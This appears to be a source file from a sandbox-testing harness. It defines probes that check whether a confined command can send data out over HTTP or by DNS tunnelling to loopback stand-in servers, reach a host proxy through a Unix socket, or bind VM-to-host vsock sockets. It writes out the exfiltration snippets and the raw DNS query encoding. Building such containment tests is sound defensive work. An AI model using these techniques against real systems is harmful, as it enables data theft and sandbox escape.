import { existsSync } from 'node:fs';
import type { Probe } from '../../probe.ts';
import type { Scene } from '../../scene.ts';
import { connectTo } from '../../scripts.ts';
import { attack } from '../attack.ts';
import { received, service, tell } from './service.ts';

const GIVES = 'a way out for whatever the command has got hold of';

/** What the command would send: the stand-in is the command's own, so only its arrival counts. */
export const stolen = ({ canary }: Scene) => `stolen-${canary.slice(-12)}`;
export const arrived = (scene: Scene) => received(scene).includes(stolen(scene));

export const EXIT_TCP: Probe = {
  id: 'network/exit-tcp',
  title: 'sending something out over HTTP',
  gives: GIVES,
  planted: 'a server on the loopback that stands in for one outside',
  tried: 'posting to it',
  reference: attack('T1041'),
  promise: 'network',
  plant: service('AF_INET', 'SOCK_STREAM', '127.0.0.1'),
  trial: (scene) => ({
    python: tell(scene, 'AF_INET', 'SOCK_STREAM', '127.0.0.1', `b'POST / HTTP/1.0\\r\\n\\r\\n${stolen(scene)}'`),
  }),
  worked: arrived,
};

/** A question for a name below a zone of the attacker's: every resolver on the way passes it on. */
const question = (label: string) =>
  `b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + bytes([${label.length}]) + b'${label}' + b'\\x07example\\x00\\x00\\x10\\x00\\x01'`;

export const EXIT_DNS: Probe = {
  id: 'network/exit-dns',
  title: 'sending something out as the name in a DNS question',
  gives: GIVES,
  planted: 'a name server on the loopback that stands in for one outside',
  tried: 'asking it for a name that holds what was stolen',
  reference: attack('T1048/003'),
  promise: 'network',
  plant: service('AF_INET', 'SOCK_DGRAM', '127.0.0.1'),
  trial: (scene) => ({ python: tell(scene, 'AF_INET', 'SOCK_DGRAM', '127.0.0.1', question(stolen(scene))) }),
  worked: arrived,
};

export const PROXY_SOCKET: Probe = {
  id: 'network/proxy-socket',
  title: 'a proxy of the host that listens on a file, when the network is off',
  gives: 'the network: a file is in no network namespace',
  planted: 'a socket in a folder of the home that no list names',
  tried: 'connecting to it',
  reference: 'https://man7.org/linux/man-pages/man7/network_namespaces.7.html',
  promise: 'credentials',
  plant: (scene) => scene.listen('proxies/out.sock'),
  trial: (scene) => ({ python: connectTo(scene.path('proxies/out.sock')) }),
};

// Binding is enough to know: from there on the hypervisor and the command can talk.
const BIND_VSOCK = `
import socket
try:
    socket.socket(socket.AF_VSOCK).bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
    print('LEAKED')
except OSError as error: print(error)
`;

export const VSOCK: Probe = {
  id: 'network/vsock',
  title: 'the sockets between a virtual machine and its host',
  gives: 'services of the host or the hypervisor, past every network namespace',
  planted: 'nothing: the kernel of a virtual machine has it',
  tried: 'binding such a socket',
  reference: 'https://man7.org/linux/man-pages/man7/vsock.7.html',
  promise: 'network',
  inapplicable: () => (existsSync('/dev/vsock') ? undefined : 'this is not a virtual machine with such sockets'),
  trial: () => ({ python: BIND_VSOCK }),
};
